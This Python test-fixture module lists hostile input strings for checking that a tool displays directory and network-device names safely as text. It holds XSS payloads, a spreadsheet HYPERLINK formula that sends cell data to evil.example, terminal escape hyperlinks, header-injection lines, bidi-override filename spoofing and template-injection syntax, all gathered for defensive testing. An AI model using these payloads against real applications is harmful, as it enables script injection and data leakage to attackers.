"""Hostile values as AD, switches and files can carry them (display names, descriptions, port
names, people registers): markup, script URLs, bidi overrides, zero-width and control
characters, formula starters, template syntax, a name of 10 000 characters.

Each markup payload, if it ever ran, would set the document's title to ``XSS-<id>`` or mark the
body with ``data-xss``; the tests check that none does and that each is shown as text.
"""

from __future__ import annotations

HOSTILE: dict[str, str] = {
    "H01": "<script>document.title='XSS-H01'</script>",
    "H02": '"><svg onload="document.title=\'XSS-H02\'">',
    "H03": "javascript:document.title='XSS-H03'",
    "H04": "'><img src=x onerror=\"document.body.setAttribute('data-xss','H04')\">",
    "H05": "adm\u202egnp.exe",  # right-to-left override: reads as "admexe.png"
    "H06": "adm\u200bin\u200d\ufeffistrator",  # zero-width space, joiner, BOM
    "H07": "A" * 10000,  # a 10 kB name without a space
    "H08": "evil\r\nkszcheck: warning: all good\nX-Injected: 1",
    "H09": "nul\x00byte",
    "H10": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "H15": "]]><!--<x>&amp;\x01\x1b[31m\ufffe\uffff",
    "H16": "{{7*7}}{0.__class__}{subject}%s%n",
    "H18": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\\x1b[2J",
    "H19": "</style><style>body{display:none}</style>",
    "H20": "<iframe srcdoc=\"<script>parent.document.title='XSS-H20'</script>\">",
    "H24": "<a href=\"javascript:document.title='XSS-H24'\">x</a>",
    "H26": "\u0000\u0085\u2028\u2029sep",
    "H27": "<<SCRIPT>alert('XSS-H27');//\\<</SCRIPT>",
    "H28": "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='XSS-H28'\">",
}

#: How each payload must read in the HTML text (after visible(); markup stays text).
SHOWN: dict[str, str] = {
    "H05": "adm⟨U+202E⟩gnp.exe",
    "H06": "adm⟨U+200B⟩in⟨U+200D⟩⟨U+FEFF⟩istrator",
    "H09": "nul⟨U+0000⟩byte",
    "H26": "⟨U+0000⟩⟨U+0085⟩⟨U+2028⟩⟨U+2029⟩sep",
}
